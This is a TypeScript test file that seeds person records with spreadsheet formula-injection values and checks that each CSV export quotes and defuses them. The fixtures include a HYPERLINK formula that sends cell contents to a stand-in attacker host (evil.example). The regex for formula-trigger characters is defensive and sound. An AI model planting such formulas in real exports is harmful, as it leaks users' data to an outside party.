import { getMe } from '@viceversa/contract';
import { beforeAll, expect, test } from 'vitest';
import { testServer } from '../testing/server.ts';
import { declaredEndpoints } from '../wire.ts';
import { ask } from './ask.ts';
import { targetsOf } from './objects.ts';
import { aWorld, type World } from './world.ts';

const server = testServer();
let world: World;
let cookie = '';
const formula = '=HYPERLINK("https://evil.example?x="&A1,"a")';

beforeAll(async () => {
  const { db } = server.connection();
  world = await aWorld(db);
  cookie = await server.signIn(world.home.accounts.owner);
  // As an import would store them: whatever an HR system exports.
  await db
    .updateTable('person')
    .set({ first_name: formula, last_name: '+1', job_title: '@SUM(A1)', department: '\t=1', site: '-1' })
    .where('organization_id', '=', world.home.organizationId)
    .execute();
});

/** Cells of a file in which every cell is quoted (RFC 4180). */
const cellsOf = (csv: string): string[] =>
  [...csv.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell]) => (cell ?? '').replaceAll('""', '"'));

const files = declaredEndpoints.filter(({ produces }) => produces !== undefined);

test.for(files.map((file) => [file.path, file] as const))('no cell of %s is run by a spreadsheet', async ([, file]) => {
  const [target] = targetsOf(file, world, { spare: world.home.accounts, abroad: getMe.path });
  const url = file.path.replace(/:(\w+)/g, (_, name: string) => target?.ids[name] ?? '');
  const reply = await ask(server.product(), { method: 'GET', url, headers: { cookie } });
  expect(reply.status, reply.text).toBe(200);
  const text = reply.text.replace(/^\ufeff/, '');
  // Everything stands in quotes: outside them there are only separators.
  expect(text.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^[,\r\n]*$/);
  expect(
    cellsOf(text).filter((cell) => /^\s*[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
  ).toEqual([]);
  expect(reply.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/);
  expect(reply.headers['content-type']).toContain('text/csv');
});

test('the pairs of a run name people, so that the file above is not empty', async () => {
  const file = files.find(({ path }) => path.endsWith('pairs.csv'));
  const ids = world.home.programs.this;
  const url = file?.path.replace(':programId', ids.programId).replace(':runId', ids.runId) ?? '';
  expect((await ask(server.product(), { method: 'GET', url, headers: { cookie } })).text).toContain("'=HYPERLINK");
});
